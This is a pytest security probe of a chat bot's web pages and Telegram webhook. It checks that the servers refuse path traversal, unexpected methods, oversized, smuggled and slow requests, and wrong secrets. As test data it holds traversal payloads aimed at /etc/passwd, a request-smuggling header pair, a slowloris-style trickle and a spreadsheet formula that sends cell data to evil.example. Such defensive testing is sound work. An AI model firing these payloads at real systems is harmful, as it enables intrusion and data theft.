"""A probe of hoshi's two HTTP servers as an attacker would run it (issue 26, done-when): the
web pages (:func:`bot.web.app.serve`) and Telegram's webhook (:class:`Webhook`), each the real
aiohttp server on 127.0.0.1, spoken to over raw sockets so that nothing a client library
tidies up (encoded dots, a NUL, a trickled header) is lost.

Traversal, methods, huge requests, slow clients, bad secrets and downloads; every answer
carries the security headers and no software banner (bot.serving); nothing is written.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from telegram.ext import Application

from bot.adapters.telegram import webhook as hook_module
from bot.adapters.telegram.webhook import SECRET_HEADER, Webhook
from bot.config import WebConfig
from bot.serving import SECURITY_HEADERS, SERVER
from bot.web import urls
from bot.web.app import serve
from tests.bot.core.fakechat import FakeChat
from tests.bot.web.conftest import club_with_games
from tests.reliability.processes import free_port

IDLE = 1.0
"""The probe's idle timeout (the servers' own is bot.serving.IDLE_S, 15 s)."""

SECRET = "s" * 64


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: bytes


def parse(raw: bytes) -> Answer:
    head, _sep, body = raw.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = {k.lower(): v for k, _s, v in (line.partition(": ") for line in lines[1:])}
    return Answer(int(lines[0].split()[1]), headers, body)


async def exchange(port: int, raw: bytes, wait: float = 5.0) -> Answer:
    """Send ``raw`` as it is and read the answer until the server closes."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(raw)
        await writer.drain()
        data = await asyncio.wait_for(reader.read(), wait)
    finally:
        writer.close()
    return parse(data)


def get(path: bytes, method: bytes = b"GET", extra: bytes = b"") -> bytes:
    return (
        method + b" " + path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n" + extra
        + b"Connection: close\r\n\r\n"
    )  # fmt: skip


def hardened(answer: Answer) -> None:
    assert answer.headers.get("server") == SERVER, answer.headers
    for name, value in SECURITY_HEADERS.items():
        assert answer.headers.get(name.lower()) == value, name


@pytest.fixture
async def pages(tmp_path: Path) -> AsyncIterator[tuple[FakeChat, int]]:
    chat = await club_with_games(tmp_path)
    port = free_port()
    runner = await serve(chat.db, WebConfig(port=port), idle_s=IDLE)
    try:
        yield chat, port
    finally:
        await runner.cleanup()
        await chat.close()


@pytest.fixture
async def webhook() -> AsyncIterator[int]:
    application = Application.builder().token("123:probe").updater(None).build()
    server = Webhook(application, SECRET)
    port = free_port()
    await server.start("127.0.0.1", port, "hook", idle_s=IDLE)
    try:
        yield port
    finally:
        await server.stop()


# -- traversal ---------------------------------------------------------------------------------

TRAVERSALS = [
    b"/static/../app.py",
    b"/static/..%2fapp.py",
    b"/static/%2e%2e/app.py",
    b"/static/%2e%2e%2f%2e%2e%2fpyproject.toml",
    b"/static/..%5capp.py",
    b"/static/%252e%252e%252fapp.py",
    b"/static/....//app.py",
    b"/static/%c0%ae%c0%ae/app.py",
    b"/static/style.css%00.py",
    b"/static//etc/passwd",
    b"/static/%2fetc%2fpasswd",
    b"/../../../../etc/passwd",
    b"/%2e%2e/%2e%2e/etc/passwd",
    b"/..%2f..%2f..%2fetc%2fpasswd",
    b"//etc/passwd",
    b"/static/./../web/app.py",
    b"/static/\\..\\app.py",
    b"/{club}/downloads/../../../../etc/passwd",
    b"/{club}/downloads/..%2f..%2fetc%2fpasswd",
    b"/{club}/downloads/%2e%2e/players.csv",
    b"/{club}/downloads/tournaments/../../../pyproject.toml",
    b"/{club}/downloads//etc/passwd",
    b"/{club}/downloads/players.csv%00",
    b"/{club}/en/players/..%2f..%2f..%2fetc%2fpasswd",
    b"/{club}/en/../../../etc/passwd",
    b"/{club}/games/..%2f1.sgf",
    b"/{club}/games/1.sgf/../../../../etc/passwd",
    b"/1-x/../2/en/",
]
SECRETS_ON_DISK = (b"root:", b"[project]", b"import ", b"SQLite format", b"def ")


@pytest.mark.parametrize("path", TRAVERSALS, ids=lambda p: p.decode("latin-1"))
async def test_no_path_leaves_the_pages(pages: tuple[FakeChat, int], path: bytes) -> None:
    chat, port = pages
    path = path.replace(b"{club}", urls.club_slug(chat.club).encode())
    before = await chat.snapshot()
    answer = await exchange(port, get(path))
    hardened(answer)
    assert answer.status in (200, 301, 302, 400, 404), answer.status
    assert not any(secret in answer.body for secret in SECRETS_ON_DISK), answer.body[:200]
    if answer.status == 200:  # only ever one of the club's own pages or files, normalised
        assert answer.headers["content-type"].startswith(("text/html", "text/csv")), path
    assert await chat.snapshot() == before


# -- methods -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "method", [b"POST", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"TRACE", b"PROPFIND", b"FOO"]
)
async def test_no_method_but_get_and_head_reaches_a_page(
    pages: tuple[FakeChat, int], method: bytes
) -> None:
    chat, port = pages
    before = await chat.snapshot()
    for path in (b"/", b"/" + urls.ranking(chat.club, "en").encode(), b"/healthz"):
        body = b'{"x": 1}'
        extra = b"Content-Type: application/json\r\nContent-Length: 8\r\n"
        answer = await exchange(port, get(path, method, extra)[:-2] + b"\r\n" + body)
        hardened(answer)
        assert answer.status in (400, 405), (method, path, answer.status)
    head = await exchange(port, get(b"/" + urls.ranking(chat.club, "en").encode(), b"HEAD"))
    hardened(head)
    assert head.status == 200 and head.body == b""
    assert await chat.snapshot() == before


# -- huge requests -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        get(b"/" + b"a" * 10_000),
        get(b"/", extra=b"X-Long: " + b"b" * 10_000 + b"\r\n"),
        get(b"/", extra=b"".join(b"X-%d: y\r\n" % i for i in range(200))),
        get(b"/", b"POST", b"Content-Length: 3000000\r\n") + b"z" * 3_000_000,
        get(b"/", extra=b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n"),
    ],
    ids=["long-line", "long-header", "many-headers", "huge-body", "smuggling"],
)
async def test_a_huge_or_malformed_request_is_refused_with_the_headers(
    pages: tuple[FakeChat, int], raw: bytes
) -> None:
    _chat, port = pages
    answer = await exchange(port, raw)
    hardened(answer)
    assert 400 <= answer.status < 500, answer.status
    assert b"Traceback" not in answer.body and b"aiohttp" not in answer.body


# -- slow clients ------------------------------------------------------------------------------


async def closed_within(reader: asyncio.StreamReader, seconds: float) -> bool:
    """Whether the server closed the connection (EOF) within ``seconds``."""
    try:
        async with asyncio.timeout(seconds):
            while await reader.read(65536):
                pass
    except TimeoutError:
        return False
    return True


async def test_slow_and_idle_connections_are_closed_and_hold_nothing(
    pages: tuple[FakeChat, int],
) -> None:
    """20 connections trickle a header a byte at a time, 5 send nothing, one keeps its
    connection open after an answer: the server closes each about :data:`IDLE` after its last
    whole request, and answers a page meanwhile."""
    chat, port = pages
    page = b"/" + urls.ranking(chat.club, "en").encode()
    trickling = [await asyncio.open_connection("127.0.0.1", port) for _ in range(20)]
    silent = [await asyncio.open_connection("127.0.0.1", port) for _ in range(5)]
    kept = await asyncio.open_connection("127.0.0.1", port)
    kept[1].write(b"GET " + page + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")

    async def trickle(writer: asyncio.StreamWriter) -> None:
        writer.write(b"GET / HTTP/1.1\r\n")
        try:
            for _ in range(40):  # 8 s of "X-a: b\r\n" a byte every 0.2 s: never a whole head
                writer.write(b"X")
                await writer.drain()
                await asyncio.sleep(0.2)
        except ConnectionError:
            return

    trickles = [asyncio.create_task(trickle(w)) for _r, w in trickling]
    try:
        answer = await exchange(port, get(page))  # while they hold their connections
        assert answer.status == 200
        head = await asyncio.wait_for(kept[0].readuntil(b"\r\n\r\n"), 5)
        assert head.startswith(b"HTTP/1.1 200")
        closed = await asyncio.gather(
            *(closed_within(r, IDLE + 4) for r, _w in [*trickling, *silent, kept])
        )
        assert all(closed), closed.count(False)
    finally:
        for task in trickles:
            task.cancel()
        for _r, w in [*trickling, *silent, kept]:
            w.close()


# -- downloads ---------------------------------------------------------------------------------


async def test_downloads_answer_only_the_clubs_own_file_names(
    pages: tuple[FakeChat, int],
) -> None:
    chat, port = pages
    await chat.ok('/register =HYPERLINK("http://evil.example/?x="&A1,"click") 5k')
    base = b"/" + urls.club_slug(chat.club).encode() + b"/downloads/"
    players = await exchange(port, get(base + b"players.csv"))
    hardened(players)
    assert players.status == 200 and "attachment" in players.headers["content-disposition"]
    assert b"\n=HYPERLINK" not in players.body and b",=HYPERLINK" not in players.body
    assert b"'=HYPERLINK" in players.body  # neutralised (OWASP), not dropped
    for name in (
        b"tournaments/01.h9", b"tournaments/1.h9x", b"tournaments/+1.h9", b"PLAYERS.CSV",
        b"players.csv.bak", b"players.csv/", b"players.csv%00", b"%70layers.csv~",
        b"tournaments/99999999999999999999.h9", b"x" * 5000 + b".csv",
    ):  # fmt: skip
        answer = await exchange(port, get(base + name))
        hardened(answer)
        assert answer.status == 404, (name[:40], answer.status)


async def test_a_club_whose_pages_are_off_answers_as_an_unknown_club(
    pages: tuple[FakeChat, int],
) -> None:
    chat, port = pages
    await chat.ok("/club web off")
    known = urls.club_slug(chat.club)
    for tail in ("", "/en/", "/en/players/1.html", "/downloads/players.csv", "/games/1.sgf"):
        off = await exchange(port, get(f"/{known}{tail}".encode()))
        unknown = await exchange(port, get(f"/999{tail}".encode()))
        assert (off.status, off.body) == (unknown.status, unknown.body), tail
        assert off.status == 404
        hardened(off)


# -- the webhook -------------------------------------------------------------------------------


def post(body: bytes, secret: bytes | None = SECRET.encode(), path: bytes = b"/hook") -> bytes:
    header = b"" if secret is None else SECRET_HEADER.encode() + b": " + secret + b"\r\n"
    return (
        b"POST " + path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n" + header
        + b"Content-Type: application/json\r\nContent-Length: " + str(len(body)).encode()
        + b"\r\nConnection: close\r\n\r\n" + body
    )  # fmt: skip


UPDATE = json.dumps({"update_id": 1}).encode()


@pytest.mark.parametrize(
    "secret",
    [
        None,
        b"",
        b"s" * 63,
        b"s" * 65,
        b"S" * 64,
        b"s" * 63 + b"\xff",
        b"\xff\xfe" + b"s" * 64,
        b"s" * 10_000,
    ],
    ids=["none", "empty", "short", "long", "case", "byte", "non-utf8", "huge"],
)
async def test_a_webhook_request_without_the_exact_secret_is_forbidden(
    webhook: int, secret: bytes | None
) -> None:
    answer = await exchange(webhook, post(UPDATE, secret))
    hardened(answer)
    expected = 400 if secret is not None and len(secret) > 8190 else 403
    assert answer.status == expected, answer.status


async def test_the_webhook_refuses_what_is_not_an_update(webhook: int) -> None:
    for body in (b"", b"{", b"[]", b"null", b"\xff" * 100):
        answer = await exchange(webhook, post(body))
        hardened(answer)
        assert answer.status == 400, (body, answer.status)
    for raw in (
        get(b"/hook"),
        post(UPDATE, path=b"/hook/../hook2"),
        post(UPDATE, path=b"/Hook"),
        post(UPDATE, path=b"/"),
    ):
        answer = await exchange(webhook, raw)
        hardened(answer)
        assert answer.status in (404, 405), answer.status


async def test_the_webhook_refuses_a_huge_body(webhook: int) -> None:
    answer = await exchange(webhook, post(b"[" + b"1," * 1_000_000 + b"1]"))
    hardened(answer)
    assert answer.status == 413


async def test_the_webhook_gives_up_on_a_slow_body_and_a_slow_head(
    webhook: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(hook_module, "BODY_S", 0.5)
    reader, writer = await asyncio.open_connection("127.0.0.1", webhook)
    writer.write(post(UPDATE)[:-5])  # the head, then a body that never ends
    await writer.drain()
    data = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
    writer.close()
    hardened(parse(data))
    assert parse(data).status == 408
    reader, writer = await asyncio.open_connection("127.0.0.1", webhook)
    writer.write(b"POST /hook HTTP/1.1\r\nHost: x\r\n")  # a head that never ends
    await writer.drain()
    assert await closed_within(reader, IDLE + 4)
    writer.close()
